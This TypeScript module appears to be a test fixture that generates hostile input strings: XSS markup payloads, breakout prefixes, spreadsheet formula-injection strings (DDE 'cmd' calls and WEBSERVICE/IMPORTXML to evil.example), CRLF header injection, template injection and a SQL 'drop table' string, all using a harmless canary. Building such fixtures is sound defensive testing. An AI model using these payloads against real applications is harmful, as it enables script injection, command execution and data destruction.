const canary = 'window.canary=1'

/** Each does `canary` where a page takes it for markup. */
const markup = [
  `<script>${canary}</script>`,
  `<script src="data:text/javascript,${canary}"></script>`,
  `<script type="module">${canary}</script>`,
  `<img src=x onerror="${canary}">`,
  `<img/src/onerror=${canary}>`,
  `<svg onload=${canary}>`,
  `<svg><script>${canary}</script></svg>`,
  `<svg><animate onbegin=${canary} attributeName=x dur=1s>`,
  `<math><mtext><img src onerror=${canary}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${canary}</script>">`,
  `<iframe src="javascript:parent.${canary}">`,
  `<object data="javascript:${canary}">`,
  `<embed src="javascript:${canary}">`,
  `<body onload=${canary}>`,
  `<details open ontoggle=${canary}>`,
  `<input autofocus onfocus=${canary}>`,
  `<video><source onerror=${canary}></video>`,
  `<a href="javascript:${canary}">x</a>`,
  `<form action="javascript:${canary}"><button autofocus>`,
  `<meta http-equiv=refresh content="0;url=javascript:${canary}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="data:text/css,body{display:none}">`,
  `<style>body{display:none}</style>`,
  `<p style="position:fixed;inset:0">x</p>`,
]

/** Ways out of where a text stands. */
const ways = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '-->']

/** What a spreadsheet takes for a formula, in each of the ways it may begin. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=HYPERLINK("https://evil.example";"x")',
  '=cmd|" /C calc"!A0',
  '@import("https://evil.example")',
  '-2+3+cmd|" /C calc"!A0',
  '=WEBSERVICE("https://evil.example")',
  '+cmd|" /C calc"!A0',
  '=IMPORTXML("https://evil.example";"//a")',
  '＝1+1',
]
const tails = ['', ' "', '\t=1+1', ', =2+2']

/** What heads of answers, patterns and escapes could be broken with. */
const others = [
  'x\r\nSet-Cookie: canary=1',
  '%0d%0aSet-Cookie:canary=1',
  '{{constructor.constructor("window.canary=1")()}}',
  '${window.canary=1}',
  '_x003D_1+1',
  "'; drop table account; --",
  '\u202eexe.slx',
  '&lt;script&gt;window.canary=1&lt;/script&gt;',
]

/** Two hundred texts that mean harm; with `every`, each so many of them. */
export function hostileTexts(every: number): readonly string[] {
  const all = [
    ...ways.flatMap((way) => markup.map((text) => way + text)),
    ...formulas.flatMap((formula) => tails.map((tail) => formula + tail)),
    ...others,
  ]
  return all.filter((_, i) => i % every === 0)
}
